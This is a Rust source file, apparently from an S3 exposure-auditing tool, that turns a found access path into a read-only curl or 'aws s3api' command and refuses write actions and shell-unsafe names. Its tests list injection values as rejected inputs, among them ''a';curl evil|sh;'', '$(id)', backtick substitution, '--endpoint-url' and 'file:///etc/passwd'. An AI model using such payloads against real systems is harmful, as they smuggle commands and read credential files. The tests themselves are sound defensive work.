//! The proof of a path: the request that gets through, in words and, where it changes nothing, as
//! a command to try.

use crate::bucket::Region;
use crate::escape::is_hidden;
use crate::exposure::{Witness, WitnessPrincipal};
use crate::iam::Access;
use crate::ports::Target;

/// A command that sends the request, after what to make of its answer; `None` where it would change
/// something, or where a name in it is not safe to give to a shell.
pub(super) fn command(witness: &Witness, target: &Target) -> Option<String> {
    match witness.action.access() {
        Access::List | Access::Read => {}
        Access::Write | Access::Tagging | Access::Permissions => return None,
    }
    let call = CALLS.iter().find(|call| call.action == witness.action.name())?;
    let (bucket, key) = asked_for(&witness.resource)?;
    if call.on_object != key.is_some() {
        return None;
    }
    let own = bucket == target.bucket.as_str();
    if !own && !bucket.contains(":accesspoint/") {
        return None;
    }
    let closed = if call.on_object { "403: closed, or no such object" } else { "403: closed" };
    match &witness.principal {
        WitnessPrincipal::Anonymous if own => unsigned(call, target, key, witness)
            .map(|command| format!("Try it (200: open; {closed}): {command}")),
        WitnessPrincipal::Anonymous => signed(call, bucket, key, &target.region)
            .map(|command| format!("Try it ({closed}): {command} --no-sign-request")),
        WitnessPrincipal::Aws { .. } | WitnessPrincipal::CanonicalUser(_) => {
            signed(call, bucket, key, &target.region)
                .map(|command| format!("Try it as that principal ({closed}): {command}"))
        }
        WitnessPrincipal::Service(_) => None,
    }
}

/// An action that only looks, and the calls for it.
struct Call {
    action: &'static str,
    on_object: bool,
    query: &'static str,
    api: &'static str,
}

const fn call(
    action: &'static str,
    on_object: bool,
    query: &'static str,
    api: &'static str,
) -> Call {
    Call { action, on_object, query, api }
}

const CALLS: &[Call] = &[
    call("s3:GetBucketAcl", false, "?acl", "get-bucket-acl"),
    call("s3:GetBucketLocation", false, "?location", "get-bucket-location"),
    call("s3:GetBucketPolicy", false, "?policy", "get-bucket-policy"),
    call("s3:GetBucketTagging", false, "?tagging", "get-bucket-tagging"),
    call("s3:GetBucketVersioning", false, "?versioning", "get-bucket-versioning"),
    call("s3:GetObject", true, "", "head-object"),
    call("s3:GetObjectAcl", true, "?acl", "get-object-acl"),
    call("s3:GetObjectAttributes", true, "?attributes", "get-object-attributes"),
    call("s3:GetObjectTagging", true, "?tagging", "get-object-tagging"),
    call("s3:ListBucket", false, "?list-type=2&max-keys=1", "list-objects-v2 --max-keys 1"),
    call("s3:ListBucketMultipartUploads", false, "?uploads", "list-multipart-uploads"),
    call("s3:ListBucketVersions", false, "?versions&max-keys=1", "list-object-versions"),
];

/// `curl` with what a shell user can send along: scheme, referer and agent.
fn unsigned(call: &Call, target: &Target, key: Option<&str>, witness: &Witness) -> Option<String> {
    let carried = |wanted: &str| {
        let found = witness.context.iter().find(|(key, _)| key.eq_ignore_ascii_case(wanted));
        found.and_then(|(_, values)| values.first())
    };
    let mut flags = String::new();
    for (key, flag) in [("aws:Referer", "-e"), ("aws:UserAgent", "-A")] {
        if let Some(value) = carried(key) {
            flags += &[" ", flag, " ", &single_quoted(value)?].concat();
        }
    }
    let plain = carried("aws:SecureTransport").is_some_and(|value| value == "false");
    let scheme = if plain { "http" } else { "https" };
    let path = key.map_or_else(String::new, |key| format!("/{key}"));
    let url = format!(
        "{scheme}://s3.{}.{}/{}{path}{}",
        target.region,
        domain(&target.region),
        target.bucket,
        call.query
    );
    if url.contains([' ', '%', '+']) {
        return None;
    }
    let url = single_quoted(&url)?;
    Some(format!("curl -sS -o /dev/null -w '%{{http_code}}\\n'{flags} {url}"))
}

fn signed(call: &Call, bucket: &str, key: Option<&str>, region: &Region) -> Option<String> {
    let bucket = single_quoted(bucket)?;
    let key = match key {
        // the AWS command line reads a file in place of a value that names one
        Some(key) if key.contains("://") || key.starts_with('-') => return None,
        Some(key) => format!(" --key {}", single_quoted(key)?),
        None => String::new(),
    };
    Some(format!("aws s3api {} --bucket {bucket}{key} --region {region}", call.api))
}

/// Bucket or access point, and key, of the ARN of a request.
fn asked_for(resource: &str) -> Option<(&str, Option<&str>)> {
    if let Some((_, own)) = resource.split_once(":s3:::") {
        return Some(match own.split_once('/') {
            Some((bucket, key)) => (bucket, Some(key)),
            None => (own, None),
        });
    }
    resource.contains(":accesspoint/").then(|| match resource.split_once("/object/") {
        Some((point, key)) => (point, Some(key)),
        None => (resource, None),
    })
}

/// `text` for a shell, where nothing in it could mean more than itself to a shell or to a reader.
fn single_quoted(text: &str) -> Option<String> {
    let safe = |letter: char| letter.is_ascii_alphanumeric() || " /._-:@=+,%?&~".contains(letter);
    let fit = !text.is_empty() && text.len() <= 1_024;
    let plain = text.chars().all(|letter| safe(letter) && !is_hidden(letter));
    (fit && plain).then(|| format!("'{text}'"))
}

/// Source: AWS General Reference, endpoints of the partitions.
fn domain(region: &Region) -> &'static str {
    match region.partition() {
        "aws-cn" => "amazonaws.com.cn",
        "aws-eusc" => "amazonaws.eu",
        "aws-iso" => "c2s.ic.gov",
        "aws-iso-b" => "sc2s.sgov.gov",
        "aws-iso-f" => "csp.hci.ic.gov",
        _ => "amazonaws.com",
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::command;
    use crate::alert::examples::target;
    use crate::alert::words::request;
    use crate::exposure::{Witness, WitnessPrincipal};
    use crate::iam::Action;

    fn witness(action: &str, resource: &str) -> Witness {
        Witness {
            principal: WitnessPrincipal::Anonymous,
            action: Action::from_name(action).unwrap(),
            resource: resource.to_owned(),
            context: BTreeMap::new(),
        }
    }

    fn shell(action: &str, resource: &str) -> Option<String> {
        command(&witness(action, resource), &target())
    }

    #[test]
    fn an_unsigned_read_is_a_curl() {
        assert_eq!(
            shell("s3:GetObject", "arn:aws:s3:::clinic-reports/a/x.pdf").unwrap(),
            "Try it (200: open; 403: closed, or no such object): curl -sS -o /dev/null -w \
             '%{http_code}\\n' 'https://s3.eu-west-1.amazonaws.com/clinic-reports/a/x.pdf'"
        );
        assert_eq!(
            shell("s3:ListBucket", "arn:aws:s3:::clinic-reports").unwrap(),
            "Try it (200: open; 403: closed): curl -sS -o /dev/null -w '%{http_code}\\n' \
             'https://s3.eu-west-1.amazonaws.com/clinic-reports?list-type=2&max-keys=1'"
        );
    }

    #[test]
    fn what_the_request_carries_is_sent_along() {
        let mut witness = witness("s3:GetObject", "arn:aws:s3:::clinic-reports/x");
        witness.context = BTreeMap::from([
            ("aws:Referer".to_owned(), vec!["https://example.com/".to_owned()]),
            ("aws:SecureTransport".to_owned(), vec!["false".to_owned()]),
        ]);
        let command = command(&witness, &target()).unwrap();
        assert!(command.contains(" -e 'https://example.com/' 'http://s3."), "{command}");
        assert_eq!(
            request(&witness),
            "an unsigned request for s3:GetObject on `arn:aws:s3:::clinic-reports/x`, with \
             `aws:Referer` = `https[:]//example.com/`; `aws:SecureTransport` = `false`"
        );
    }

    #[test]
    fn access_points_and_principals_go_through_the_command_line() {
        let resource = "arn:aws:s3:eu-west-1:111122223333:accesspoint/open/object/x";
        assert_eq!(
            shell("s3:GetObject", resource).unwrap(),
            "Try it (403: closed, or no such object): aws s3api head-object --bucket \
             'arn:aws:s3:eu-west-1:111122223333:accesspoint/open' --key 'x' --region eu-west-1 \
             --no-sign-request"
        );
    }

    #[test]
    fn nothing_that_writes_and_nothing_that_a_shell_would_read_is_offered() {
        let bucket = "arn:aws:s3:::clinic-reports";
        for (action, resource) in [
            ("s3:PutObject", format!("{bucket}/x")),
            ("s3:PutBucketPolicy", bucket.to_owned()),
            ("s3:GetObject", format!("{bucket}/a';curl evil|sh;'")),
            ("s3:GetObject", format!("{bucket}/$(id)")),
            ("s3:GetObject", format!("{bucket}/a\nb")),
            ("s3:GetObject", format!("{bucket}/\u{202e}x")),
            ("s3:GetObject", format!("{bucket}/`id`")),
            ("s3:GetObject", "arn:aws:s3:::other-bucket/--endpoint-url".replace("other", "$x")),
            ("s3:GetObject", "arn:aws:s3:::other-bucket/file:///etc/passwd".to_owned()),
            ("s3:GetObject", bucket.to_owned()),
        ] {
            assert_eq!(shell(action, &resource), None, "{resource}");
        }
    }
}
